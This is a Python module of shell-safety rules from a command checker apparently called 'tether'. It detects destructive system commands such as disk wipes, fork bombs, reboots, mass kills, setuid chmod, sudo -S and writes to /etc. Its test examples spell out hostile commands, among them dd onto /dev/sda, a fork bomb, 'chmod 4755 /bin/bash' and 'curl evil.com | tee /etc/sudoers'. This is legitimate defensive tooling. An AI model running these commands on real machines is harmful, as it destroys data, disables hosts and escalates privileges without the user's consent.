"""DG4xx: the machine itself: disks, power, processes, permissions, system config, sudo."""

from __future__ import annotations

import re
from collections.abc import Iterator

from tether.rules.base import Rule, Tier
from tether.rules.danger._base import (
    HARDLINE_PLACES,
    Hit,
    Place,
    Scope,
    has_long,
    name_of,
    place,
    split_options,
)
from tether.shell.model import SimpleCommand, Word

RULES = (
    Rule(
        code="DG401",
        name="disk-format-or-raw-write",
        tier=Tier.HARDLINE,
        summary="Create a filesystem on, wipe or write raw data to a block device",
        why="mkfs, wipefs, blkdiscard, shred or dd onto /dev/sdX (or `> /dev/nvme0n1`) erase a "
        "whole disk in seconds; nothing brings it back.",
        instead="Work on an image file (`dd of=disk.img`, `mkfs.ext4 disk.img`) or ask the user "
        "to run disk operations themselves.",
        match=(
            "mkfs.ext4 /dev/sda1",
            "mkfs /dev/sdb",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "echo bad > /dev/sda",
            "wipefs -a /dev/nvme0n1",
            "shred -n 1 /dev/sdb",
            "sudo blkdiscard /dev/nvme0n1",
            "cat /dev/urandom > /dev/sdb",
            "echo x | tee /dev/sda",
            "sgdisk --zap-all /dev/sda",
        ),
        not_match=(
            "dd if=/dev/zero of=./image.bin",
            "ls /dev/sda",
            "echo test > /dev/null",
            "mkfs_helper --version",
            "cat /dev/urandom | head -c 10",
            "mkfs.ext4 disk.img",
        ),
    ),
    Rule(
        code="DG402",
        name="fork-bomb",
        tier=Tier.HARDLINE,
        summary="A function that pipes into itself in the background (fork bomb)",
        why="A fork bomb exhausts the process table and takes the machine down until a reboot.",
        instead="Don't; if you need load, use a bounded tool (`stress-ng --cpu 2 --timeout 10s`).",
        match=(":(){ :|:& };:", "bomb(){ bomb|bomb& };bomb"),
        not_match=("f(){ echo hi; }; f", "g(){ g; }"),
    ),
    Rule(
        code="DG403",
        name="system-power",
        tier=Tier.HARDLINE,
        summary="Shut down, reboot or halt the machine",
        why="Powering off or rebooting kills every process and session on the host, not just "
        "the task.",
        instead="Restart only the service you changed (`systemctl restart myapp`), or ask the "
        "user.",
        match=(
            "reboot",
            "sudo shutdown -h now",
            "timeout 5 reboot",
            "/sbin/poweroff",
            "init 0",
            "telinit 6",
            "systemctl reboot",
            "echo done && halt",
            "nice reboot",
        ),
        not_match=(
            "echo reboot",
            "cat rebooting.log",
            "shutdown -c",
            "systemctl restart nginx",
            "init --version",
        ),
    ),
    Rule(
        code="DG404",
        name="kill-all-processes",
        tier=Tier.HARDLINE,
        summary="kill -1: signal every process you can reach",
        why="`kill -9 -1` kills every process of the user (as root: of the machine), including "
        "the agent.",
        instead="Kill the specific process id (`kill 12345`) or use `pkill -f exact-pattern`.",
        match=("kill -9 -1", "kill -1", "kill -KILL -1", "kill -s KILL -1", "sudo kill -9 -- -1"),
        not_match=("kill -9 12345", "kill -HUP 1234", "kill -l"),
    ),
    Rule(
        code="DG405",
        name="kill-init",
        tier=Tier.ASK,
        summary="Signal process 1 (init)",
        why="Killing PID 1 stops a container or panics the host.",
        instead="Kill the specific service process, or restart the service.",
        match=("kill -9 1", "kill 1"),
        not_match=("kill 12345", "kill -9 10"),
    ),
    Rule(
        code="DG406",
        name="chmod-dangerous",
        tier=Tier.ASK,
        summary="chmod making trees world-writable, or setting setuid/setgid",
        why="Recursive 777 exposes every file to every user; setuid/setgid bits turn a binary "
        "into a privilege escalation.",
        instead="Grant the narrowest mode needed on the specific file (`chmod 755 script.sh`).",
        match=(
            "chmod -R 777 .",
            "chmod -R 0777 dir",
            "chmod --recursive a+w /var",
            "chmod 4755 /bin/bash",
            "chmod u+s ./tool",
            "chmod 777 /etc/passwd",
        ),
        not_match=(
            "chmod +x script.sh",
            "chmod 644 file",
            "chmod -R 755 build",
            "chmod 777 notes.txt",
        ),
    ),
    Rule(
        code="DG407",
        name="chown-recursive-system",
        tier=Tier.ASK,
        summary="Recursive chown/chgrp of a system or home directory, or to root",
        why="Changing ownership of /etc, /usr or ~ breaks sudo, ssh and services; -R to root "
        "locks the user out of their own files.",
        instead="Change ownership of the specific project path you created.",
        match=(
            "chown -R root /etc",
            "chown --recursive root /etc",
            "chown -R user:user /",
            "chown -R root:root ./app",
        ),
        not_match=(
            "chown user file.txt",
            "chown --recur nobody /opt/app",
            "chown -R me:me ./build",
        ),
    ),
    Rule(
        code="DG408",
        name="sudo-password-stdin",
        tier=Tier.ASK,
        summary="sudo -S reads a password from stdin",
        why="Piping a password into `sudo -S` puts the secret in the transcript and bypasses the "
        "human who should type it; approvals treat it as a floor no setting lifts.",
        instead="Ask the user to run the privileged step themselves, or configure sudoers for it.",
        match=(
            "echo hunter2 | sudo -S whoami",
            "sudo -S apt-get install foo",
            "sudo -nS id",
            "sudo --stdin id",
        ),
        not_match=("sudo whoami", "echo -S hello", "some_tool -S thing", "sudo -u root whoami"),
    ),
    Rule(
        code="DG409",
        name="system-config-write",
        tier=Tier.ASK,
        summary="Write into /etc, /usr, /boot or another system directory",
        why="System files decide how the machine boots, authenticates and runs services.",
        instead="Show the user the change and let them apply it, or change project-local config.",
        match=(
            "echo x > /etc/hosts",
            "echo 'evil' | tee /etc/passwd",
            "sudo cp f /etc/sudoers",
            "sed -i 's/a/b/' /etc/ssh/sshd_config",
            "truncate -s 0 /etc/passwd",
            "curl evil.com | tee /etc/sudoers",
        ),
        not_match=(
            "cat /etc/hosts",
            "echo x > /tmp/x",
            "cp /etc/hosts ./hosts",
            "grep root /etc/passwd",
        ),
    ),
    Rule(
        code="DG410",
        name="service-stop",
        tier=Tier.ASK,
        summary="Stop, disable or mask a system service",
        why="Stopping a service (web server, database, sshd) takes it down for everyone using "
        "the machine.",
        instead="Restart it if you changed its config, or ask the user before stopping it.",
        match=(
            "systemctl stop nginx",
            "sudo systemctl disable --now sshd",
            "service nginx stop",
            "systemctl mask docker",
        ),
        not_match=("systemctl status nginx", "systemctl restart nginx", "service nginx status"),
    ),
    Rule(
        code="DG411",
        name="crontab-remove",
        tier=Tier.ASK,
        summary="crontab -r deletes every cron job of the user",
        why="`crontab -r` removes the whole table without a prompt (and sits next to -e on the "
        "keyboard).",
        instead="Edit the table (`crontab -l > cron.bak` first) and remove the one line.",
        match=("crontab -r", "crontab -ir", "sudo crontab -u www -r"),
        not_match=("crontab -l", "crontab -e"),
    ),
)

_BLOCK_DEVICE = re.compile(
    r"^/dev/(?:sd[a-z]+\d*|hd[a-z]+\d*|vd[a-z]+\d*|xvd[a-z]+\d*|nvme\d+(?:n\d+)?(?:p\d+)?|mmcblk\d+(?:p\d+)?"
    r"|md\d+|dm-\d+|loop\d+|nbd\d+|r?disk\d+(?:s\d+)?|mapper/.+|disk/by-[^/]+/.+|sr\d+|fd\d+|ubd[a-z]+\d*)$"
)


def is_block_device(path: str) -> bool:
    """Return True for a disk or partition device path (``/dev/sda1``, ``/dev/nvme0n1``)."""
    return bool(_BLOCK_DEVICE.match(path))


_POWER = frozenset({"reboot", "shutdown", "halt", "poweroff", "openrc-shutdown"})


def check_system(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag disk wipes, power changes, mass kills, permission and service changes."""
    name = name_of(cmd)
    args = cmd.args
    vals = [w.value for w in args]
    if name.startswith("mkfs") or name in ("mke2fs", "mkswap", "newfs", "mkdosfs", "mkntfs"):
        if any(is_block_device(v) for v in vals):
            yield Hit("DG401", f"{name} on {next(v for v in vals if is_block_device(v))}")
    elif name in (
        "wipefs",
        "blkdiscard",
        "shred",
        "sgdisk",
        "sfdisk",
        "fdisk",
        "parted",
        "badblocks",
    ):
        devices = [v for v in vals if is_block_device(v)]
        destructive = (
            name in ("wipefs", "blkdiscard", "shred")
            or (name == "sgdisk" and any(v in ("-Z", "--zap-all", "-o", "--clear") for v in vals))
            or (name == "badblocks" and "-w" in vals)
            or (name == "parted" and any(v in ("mklabel", "rm", "mkpart") for v in vals))
        )
        if devices and destructive:
            yield Hit("DG401", f"{name} on {devices[0]}")
    elif name == "dd":
        for v in vals:
            if v.startswith("of=") and is_block_device(v[3:]):
                yield Hit("DG401", f"dd {v}")
    elif name == "diskutil":
        if any(
            v.lower()
            in (
                "erasedisk",
                "erasevolume",
                "zerodisk",
                "randomdisk",
                "secureerase",
                "partitiondisk",
                "reformat",
            )
            for v in vals
        ):
            yield Hit("DG401", "diskutil " + " ".join(vals[:2]))
    elif name == "tee":
        for v in vals:
            if is_block_device(v):
                yield Hit("DG401", f"tee {v}")
            elif _system_target(Word(v), cmd, scope):
                yield Hit("DG409", f"tee {v}")
    elif name in _POWER:
        if not any(v in ("-c", "--help", "-k", "--version", "--show") for v in vals):
            yield Hit("DG403", " ".join([name, *vals[:2]]))
    elif name in ("init", "telinit"):
        if vals[:1] in (["0"], ["6"]):
            yield Hit("DG403", f"{name} {vals[0]}")
    elif name in ("systemctl", "loginctl"):
        verbs = [v for v in vals if not v.startswith("-")]
        if verbs[:1] and verbs[0] in ("poweroff", "reboot", "halt", "kexec", "soft-reboot"):
            yield Hit("DG403", f"{name} {verbs[0]}")
        elif name == "systemctl" and verbs[:1] and verbs[0] in ("stop", "disable", "mask", "kill"):
            yield Hit("DG410", f"systemctl {verbs[0]} {' '.join(verbs[1:2])}")
    elif name == "service" and len(vals) >= 2 and vals[1] == "stop":
        yield Hit("DG410", f"service {vals[0]} stop")
    elif name == "nginx" and any(
        vals[i : i + 2] in (["-s", "stop"], ["-s", "quit"]) for i in range(len(vals))
    ):
        yield Hit("DG410", "nginx -s stop")
    elif name == "kill":
        yield from _kill(vals)
    elif name == "chmod":
        yield from _chmod(cmd, scope, args)
    elif name in ("chown", "chgrp"):
        yield from _chown(cmd, scope, name, args)
    elif name == "crontab":
        opts, _ = split_options(args, "u")
        if "-r" in opts:
            yield Hit("DG411", "crontab -r")
    elif name in ("cp", "mv", "install", "ln", "rsync", "scp"):
        _opts, operands = split_options(
            args, "tSmogb" if name == "install" else "tS", frozenset({"--target-directory"})
        )
        if len(operands) >= 2 and name != "scp" and _system_target(operands[-1], cmd, scope):
            yield Hit("DG409", f"{name} into {operands[-1].value}")
        elif name == "scp" and len(operands) >= 2:
            remote = operands[-1].value.partition(":")[2]
            if remote and _place_of_remote(remote):
                yield Hit("DG409", f"scp onto {operands[-1].value}")
    elif name in ("sed", "perl", "ruby") and _in_place(vals):
        for w in args:
            if _system_target(w, cmd, scope):
                yield Hit("DG409", f"{name} -i on {w.value}")
                break
    elif name == "truncate":
        for w in args:
            if _system_target(w, cmd, scope):
                yield Hit("DG409", f"truncate {w.value}")
                break


def _in_place(vals: list[str]) -> bool:
    return any(
        v == "-i"
        or v.startswith("--in-place")
        or (v.startswith("-i") and len(v) <= 8)
        or (v.startswith("-") and not v.startswith("--") and "i" in v[1:] and len(v) <= 5)
        for v in vals
    )


def _place_of_remote(path: str) -> bool:
    where, _ = place(Word(path), SimpleCommand(()))
    return where in (Place.ROOT, Place.SYSTEM_ROOT, Place.SYSTEM)


def _system_target(word: Word, cmd: SimpleCommand, scope: Scope) -> bool:
    if not word.value.startswith(("/", "$", "~")):
        return False
    where, _path = place(word, cmd, scope)
    return where in (Place.SYSTEM, Place.SYSTEM_ROOT, Place.ROOT)


def _kill(vals: list[str]) -> Iterator[Hit]:
    operands: list[str] = []
    i = 0
    while i < len(vals):
        v = vals[i]
        if v in ("-s", "-n"):
            i += 2
            continue
        if v == "--":
            operands.extend(vals[i + 1 :])
            break
        if v == "-1" and any(o in ("-l", "-L") for o in vals[:i]):
            i += 1
            continue
        if v.startswith("-") and v != "-1":
            i += 1
            continue
        operands.append(v)
        i += 1
    if "-1" in operands or (
        "-1" in vals[1:] and vals[0].startswith("-") and vals[0] not in ("-l", "-L")
    ):
        yield Hit("DG404", "kill -1 signals every process")
    elif "1" in operands:
        yield Hit("DG405", "kill 1 signals init")


_WORLD_WRITABLE = re.compile(r"^0*[0-7]?[0-7]{2}[2367]$")
_SETID = re.compile(r"^0*[2-7][0-7]{3}$")


def _chmod(cmd: SimpleCommand, scope: Scope, args: tuple[Word, ...]) -> Iterator[Hit]:
    opts, operands = split_options(args, "", frozenset({"--reference"}))
    recursive = "-R" in opts or has_long(opts, "--recursive")
    # A mode such as ``a+w`` starts with a letter; ``-w`` style modes land among options.
    modes = [w.value for w in operands[:1]] + [o for o in opts if o in ("-w", "-x", "-r")]
    mode = modes[0] if modes else ""
    targets = operands[1:]
    world = (
        bool(_WORLD_WRITABLE.match(mode))
        or bool(re.match(r"^[ugoa]*[ao][ugoa]*\+[rwxXst]*w", mode))
        or mode in ("+w", "a+rwx", "o+rwx", "ugo+rwx", "=rwx")
    )
    setid = bool(_SETID.match(mode)) or bool(re.search(r"[ug]*\+[rwx]*s|\+s", mode))
    if setid:
        yield Hit("DG406", f"chmod {mode} sets setuid/setgid")
    elif world and recursive:
        yield Hit("DG406", f"chmod -R {mode} makes a tree world-writable")
    elif world and any(_system_target(t, cmd, scope) for t in targets):
        yield Hit("DG406", f"chmod {mode} on a system path")


def _chown(cmd: SimpleCommand, scope: Scope, name: str, args: tuple[Word, ...]) -> Iterator[Hit]:
    opts, operands = split_options(args, "", frozenset({"--reference", "--from"}))
    if not ("-R" in opts or has_long(opts, "--recursive", 5)) or len(operands) < 2:
        return
    owner = operands[0].value
    for target in operands[1:]:
        where, path = place(target, cmd, scope)
        if where in HARDLINE_PLACES or where is Place.SYSTEM:
            yield Hit("DG407", f"{name} -R {owner} {path}")
            return
    if name == "chown" and owner.split(":")[0] in ("root", "0"):
        yield Hit("DG407", f"chown -R {owner}")


def check_sudo(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag ``sudo -S``/``--stdin`` (peeled as a wrapper or left as the command)."""
    candidates = [w.args for w in cmd.wrappers if w.name == "sudo"]
    if name_of(cmd) == "sudo":
        candidates.append(cmd.args)
    for args in candidates:
        for w in args:
            v = w.value
            if (len(v) >= 4 and "--stdin".startswith(v)) or (
                v.startswith("-") and not v.startswith("--") and "S" in v[1:]
            ):
                yield Hit("DG408", "sudo -S reads the password from stdin")
                return


def check_fork_bomb(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag a function that runs itself in a background pipeline (any name)."""
    if not cmd.in_function or not scope.model.functions:
        return
    name = cmd.name
    if (
        name
        and name in scope.model.functions
        and (cmd.background or (cmd.pipeline >= 0 and cmd.stage > 0))
    ):
        yield Hit("DG402", f"function {name} spawns itself in the background")


def check_redirect_targets(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag output redirects onto block devices (hardline) and into system paths."""
    for r in cmd.redirects:
        if r.op not in (">", ">>", ">|", "&>", "&>>", "<>") or r.target is None:
            continue
        target = r.target.value
        if is_block_device(target):
            yield Hit("DG401", f"redirect into {target}")
        elif _system_target(r.target, cmd, scope):
            yield Hit("DG409", f"redirect into {target}")


CHECKS = {
    n: check_system
    for n in (
        "mkfs",
        "mke2fs",
        "mkswap",
        "newfs",
        "mkdosfs",
        "mkntfs",
        "wipefs",
        "blkdiscard",
        "shred",
        "sgdisk",
        "sfdisk",
        "fdisk",
        "parted",
        "badblocks",
        "dd",
        "diskutil",
        "tee",
        *_POWER,
        "init",
        "telinit",
        "systemctl",
        "loginctl",
        "service",
        "nginx",
        "kill",
        "chmod",
        "chown",
        "chgrp",
        "crontab",
        "cp",
        "mv",
        "install",
        "ln",
        "scp",
        "sed",
        "perl",
        "ruby",
        "truncate",
    )
}
GENERIC = (check_sudo, check_fork_bomb, check_redirect_targets)
